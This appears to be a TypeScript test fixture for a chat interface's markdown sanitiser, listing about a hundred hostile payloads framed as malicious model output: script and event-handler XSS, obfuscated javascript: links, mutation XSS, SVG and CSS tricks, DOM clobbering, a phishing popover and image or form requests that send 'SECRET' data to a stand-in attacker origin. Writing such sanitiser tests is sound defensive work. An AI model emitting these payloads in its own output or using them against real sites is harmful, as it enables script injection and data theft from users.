// Hostile model output. `A` is replaced by a URL prefix on the attacker's origin (a second, counted
// origin of the test server, or attacker.invalid); payloads that run call `__pwned()` or `alert()`.

export interface Payload {
  name: string;
  /** Markdown as a model would stream it; `${A}` stands for the attacker's URL prefix. */
  text: string;
}

const P = (name: string, text: string): Payload => ({ name, text });

export const CORPUS: readonly Payload[] = [
  // Raw HTML, as a block and inline.
  P('script block', '<script>__pwned("script")</script>\n\nafter'),
  P('inline script', 'text <script>__pwned("inline")</script> more'),
  P('script src', '<script src="${A}/script.js"></script>'),
  P('img onerror block', '<img src="${A}/img-onerror.png" onerror="__pwned(\'img\')">'),
  P('img onerror inline', 'look: <img src=${A}/inline.png onerror=__pwned() alt=x> there'),
  P('img onerror unquoted src', '<img src=x onerror=alert(1)//>'),
  P('body onload', '<body onload="__pwned()">x</body>'),
  P('details ontoggle', '<details open ontoggle="__pwned()"><summary>s</summary>x</details>'),
  P('input autofocus', '<input autofocus onfocus="__pwned()">'),
  P('marquee onstart', '<marquee onstart="__pwned()">m</marquee>'),
  P('custom element', '<chat-stream endpoint="${A}/nested" onclick="__pwned()">x</chat-stream>'),
  P('is attribute', '<p is="x-evil" onmouseover="__pwned()">hover</p>'),
  P('event on anchor', '<a href="https://example.com" onclick="__pwned()" onmouseover=__pwned()>x</a>'),
  P('html block continues', '<div onmouseover="__pwned()">\n\n![x](${A}/in-div.png)\n\n</div>'),
  P('table cell html', '| a |\n|---|\n| <img src=${A}/cell.png onerror=__pwned()> |'),
  P('list item html', '- one\n- <img src="${A}/li.png" onerror="__pwned()">\n- three'),

  // Link URLs: scheme, entity, case, whitespace and control-character tricks.
  P('js link', '[click](javascript:__pwned())'),
  P('js link case', '[click](JaVaScRiPt:__pwned())'),
  P('js link angle', '[click](<javascript:__pwned()>)'),
  P('js link tab entity', '[click](java&#x09;script:__pwned())'),
  P('js link newline entity', '[click](java&#10;script:__pwned())'),
  P('js link leading control', '[click](&#1;javascript:__pwned())'),
  P('js link leading spaces entity', '[click](&#32;&#32;javascript:__pwned())'),
  P('js link decimal entities', '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__pwned())'),
  P('js link hex entities no semicolon', '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A__pwned()">x</a>'),
  P('js link named colon', '[click](javascript&colon;__pwned())'),
  P('js link raw html whitespace', '<a href=" \tjavascript:__pwned()">x</a>'),
  P('js link raw html newline', '<a href="java\nscript:__pwned()">x</a>'),
  P('vbscript link', '[x](vbscript:msgbox(1))'),
  P('data html link', '[x](data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4=)'),
  P('data html raw', '<a href="data:text/html,<script>__pwned()</script>">x</a>'),
  P('file link', '[x](file:///etc/passwd)'),
  P('reference definition', '[click][r] and [r]\n\n[r]: javascript:__pwned() "t"'),
  P('reference definition entity', '[click][r]\n\n[r]: &#x6A;avascript&#x3A;__pwned()'),
  P('reference after use', 'see [r]\n\nmore text\n\n[r]: <javascript:__pwned()>'),
  P('autolink js', '<javascript:__pwned()>'),
  P('autolink data', '<data:text/html,<script>alert(1)</script>>'),
  P('target and rel', '<a href="https://example.com" target="_self" rel="opener">x</a>'),
  P('ping', '<a href="https://example.com" ping="${A}/ping">x</a>'),
  P('download', '<a href="https://example.com/x.exe" download="invoice.pdf">x</a>'),

  // Images: markdown, reference-style and raw media.
  P('md image', '![secret data](${A}/md.png?q=SECRET)'),
  P('md image title', '![x](${A}/title.png "t")'),
  P('md image no alt', 'text ![](${A}/noalt.png) text'),
  P('ref image', '![alt][img]\n\n[img]: ${A}/ref.png'),
  P('ref image late definition', '![alt][img] text\n\nmore\n\n[img]: ${A}/late.png'),
  P('image inside link', '[![badge](${A}/badge.png)](https://example.com)'),
  P('image js url', '![x](javascript:__pwned())'),
  P('image data svg', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X19wd25lZCgpPjwvc3ZnPg==)'),
  P('raw img data svg', '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'__pwned()\'/>">'),
  P('srcset', '<img srcset="${A}/srcset.png 1x, ${A}/srcset2.png 2x" alt="s">'),
  P('picture', '<picture><source srcset="${A}/pic.webp" type="image/webp"><img src="${A}/pic.png" alt="pic"></picture>'),
  P('video source', '<video controls><source src="${A}/video.mp4" type="video/mp4"></video>'),
  P('video poster', '<video poster="${A}/poster.png" src="${A}/v.mp4"></video>'),
  P('video source onerror', '<video><source onerror="__pwned()"></video>'),
  P('audio autoplay', '<audio autoplay src="${A}/audio.mp3"></audio>'),
  P('track', '<video><track src="${A}/track.vtt" default></video>'),
  P('lowsrc dynsrc', '<img lowsrc="${A}/low.png" dynsrc="${A}/dyn.avi">'),
  P('input image', '<input type="image" src="${A}/input.png">'),
  P('image tag', '<image src="${A}/image-tag.png">'),
  P('background attr', '<table background="${A}/table-bg.png"><tr><td background="${A}/td-bg.png">x</td></tr></table>'),

  // Mutation XSS through nesting.
  P('noscript', '<noscript><p title="</noscript><img src=${A}/noscript.png onerror=__pwned()>"></noscript>'),
  P('template', '<template><img src="${A}/template.png" onerror="__pwned()"></template>'),
  P('table foster parenting', '<table><tr><td>a</td></tr><img src="${A}/foster.png" onerror="__pwned()"></table>'),
  P('table foster link', '<table><a href="javascript:__pwned()">x</a><td>c</td></table>'),
  P('comment breakout', '<!--><img src="${A}/comment.png" onerror="__pwned()">-->'),
  P('comment bang', '<!-- --!><img src="${A}/bang.png" onerror="__pwned()"> -->'),
  P('comment in attribute', '<p title="<!--"><img src="${A}/cattr.png" onerror="__pwned()">-->'),
  P('cdata', '<![CDATA[><img src="${A}/cdata.png" onerror="__pwned()">]]>'),
  P('xmp', '<xmp><p title="</xmp><img src=${A}/xmp.png onerror=__pwned()>"></xmp>'),
  P('select style', '<select><style><img src="${A}/select.png" onerror="__pwned()"></style></select>'),
  P('form nesting', '<form><math><mtext></form><form><mglyph><style></math><img src="${A}/form-math.png" onerror="__pwned()">'),
  P('math mglyph', '<math><mtext><table><mglyph><style><img src="${A}/mglyph.png" onerror="__pwned()">'),
  P('svg p style', '<svg></p><style><a id="</style><img src=${A}/svgp.png onerror=__pwned()>">'),
  P('math style', '<math><style><img src="${A}/mathstyle.png" onerror="__pwned()"></style></math>'),

  // SVG and MathML.
  P('svg onload', '<svg onload="__pwned()"></svg>'),
  P('svg script', '<svg><script>__pwned()</script></svg>'),
  P('svg anchor', '<svg><a xlink:href="javascript:__pwned()"><text x="0" y="20">x</text></a></svg>'),
  P('svg animate', '<svg><a><animate attributeName="href" values="javascript:__pwned()"/><text y="20">x</text></a></svg>'),
  P('svg image', '<svg><image href="${A}/svg-image.png"/></svg>'),
  P('svg use', '<svg><use href="${A}/sprite.svg#x"/></svg>'),
  P('svg foreignobject', '<svg><foreignObject><img src="${A}/fo.png" onerror="__pwned()"></foreignObject></svg>'),
  P('math href', '<math href="javascript:__pwned()">x</math>'),
  P('math maction', '<math><maction actiontype="statusline" xlink:href="javascript:__pwned()">x</maction></math>'),

  // CSS.
  P('style element', '<style>@import "${A}/import.css"; * { background: url(${A}/bg.png) }</style>'),
  P('style attribute', '<div style="background-image: url(${A}/style.png)">x</div>'),
  P('style attribute expression', '<p style="width: expression(__pwned())">x</p>'),
  P('link stylesheet', '<link rel="stylesheet" href="${A}/sheet.css">'),

  // DOM clobbering.
  P('clobber id', '<a id="__pwned" href="https://example.com">x</a><div id="location">y</div>'),
  P('clobber name', '<img name="getElementById"><form name="body"></form><a name="cookie">z</a>'),
  P('clobber form', '<form id="test"><input name="attributes"><input name="nodeName"></form>'),

  // Navigation, prefetching and forms.
  P('meta refresh', '<meta http-equiv="refresh" content="0;url=${A}/meta">'),
  P('base href', '<base href="${A}/">\n\n[rel](/relative) ![i](/relative.png)'),
  P('link prefetch', '<link rel="prefetch" href="${A}/prefetch"><link rel="preload" as="image" href="${A}/preload.png">'),
  P('form action', '<form action="${A}/form" method="post"><input name="q" value="secret"><button>Send</button></form>'),
  P('button formaction', '<button formaction="javascript:__pwned()">go</button>'),
  P('isindex', '<isindex action="javascript:__pwned()" type="image">'),

  // Embedded content.
  P('iframe srcdoc', '<iframe srcdoc="<script>parent.__pwned()</script>"></iframe>'),
  P('iframe js', '<iframe src="javascript:parent.__pwned()"></iframe>'),
  P('iframe remote', '<iframe src="${A}/frame.html"></iframe>'),
  P('object data', '<object data="${A}/object.swf"></object>'),
  P('embed', '<embed src="${A}/embed.svg" type="image/svg+xml">'),

  // Attributes that reach the element's own styles or the top layer.
  P('part and slot', '<span part="send-button" slot="x" exportparts="a">spoof</span>'),
  P('popover', '<div popover id="p">Your session expired, log in at evil.example</div>'),
  P('data attributes', '<div data-x="1" data-action="__pwned">x</div>'),
  P('class spoof', '<p class="caret message error">x</p>'),
];

/** A few payloads for an origin that never resolves (attacker.invalid), as an outside corpus would write them. */
export const INVALID_ORIGIN_CORPUS: readonly Payload[] = [
  P('invalid md image', '![exfil](${A}/md.png?q=SECRET)'),
  P('invalid raw img', '<img src="${A}/raw.png" onerror="__pwned()">'),
  P('invalid picture', '<picture><source srcset="${A}/p.webp"><img src="${A}/p.png"></picture>'),
  P('invalid video', '<video src="${A}/v.mp4" poster="${A}/poster.png"></video>'),
  P('invalid style', '<div style="background:url(${A}/bg.png)">x</div>'),
];

/** The payload's text with `${A}` replaced by `attacker` (a URL prefix without a trailing slash). */
export function expand(payload: Payload, attacker: string): string {
  return payload.text.replaceAll('${A}', attacker);
}

/** A path segment for a payload, so that every request can be traced to the test that caused it. */
export function slug(payload: Payload): string {
  return payload.name.replace(/[^a-z0-9]+/gi, '-').toLowerCase();
}
